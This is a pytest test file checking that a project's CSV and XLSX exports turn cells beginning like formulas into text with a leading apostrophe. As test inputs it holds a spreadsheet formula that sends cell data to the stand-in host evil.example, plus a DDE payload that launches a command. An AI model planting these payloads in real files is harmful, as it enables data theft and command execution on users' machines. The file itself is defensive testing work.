"""One rule for every CSV and XLSX export: formulas come out as text, numbers as numbers."""

from __future__ import annotations

import csv
import io
from types import SimpleNamespace
from typing import Any, cast

import pytest
from openpyxl import load_workbook

from pabrik.assessment.scoring import Answer
from pabrik.runtime.assess.data import load_registry
from pabrik.runtime.assess.formats import export_answers, import_answers
from pabrik.runtime.exports import safe_cell, safe_csv
from pabrik.runtime.kpi import export as kpi_export

LINK = '=HYPERLINK("https://evil.example/?d="&A1,"klik")'


@pytest.mark.parametrize("text", [LINK, "+1+2", "-2+3", "@SUM(A1)", "\t=1", "\r=1"])
def test_a_cell_that_starts_like_a_formula_gets_an_apostrophe(text: str) -> None:
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("value", [1, -2.5, "-2.5", "1e3", "plain", "", None])
def test_numbers_and_plain_text_stay_as_they_are(value: object) -> None:
    assert safe_cell(value) == value


def test_an_evidence_note_with_a_formula_is_text_in_the_answers_csv() -> None:
    model = load_registry().get("indi40")
    question = model.questions[0]
    answer = Answer(question.id, (question.options[0].id,), LINK)
    text = export_answers(model, {question.id: answer}, "csv")
    rows = list(csv.reader(io.StringIO(text)))
    assert rows[1][2] == "'" + LINK
    assert "\n=HYPERLINK" not in text
    assert ",=HYPERLINK" not in text
    # Read back, the note is what the company wrote.
    assert import_answers(text, "csv")[2][0].note == LINK


def test_the_kpi_csv_and_xlsx_keep_formulas_out(monkeypatch: pytest.MonkeyPatch) -> None:
    rows = [("oee", "=cmd|' /C calc'!A0", 0.5, -1)]
    monkeypatch.setattr(kpi_export, "kpi_rows", lambda report, words: rows)
    monkeypatch.setattr(kpi_export, "_window_rows", lambda report, words: [("scope", "@x")])
    report = cast(Any, SimpleNamespace(elements={"+a": 1}))
    book = load_workbook(io.BytesIO(kpi_export.to_xlsx(report, None, cast(Any, None))))
    kpis = list(book["KPIs"].iter_rows(min_row=2, values_only=True))
    assert kpis[0][:4] == ("oee", "'=cmd|' /C calc'!A0", 0.5, -1)
    assert next(book["Elements"].iter_rows(min_row=2, values_only=True)) == ("'+a", 1)
    assert next(book["Window"].iter_rows(min_row=2, values_only=True)) == ("scope", "'@x")
    assert safe_csv("a,=1+1,-3\n") == "a,'=1+1,-3\n"
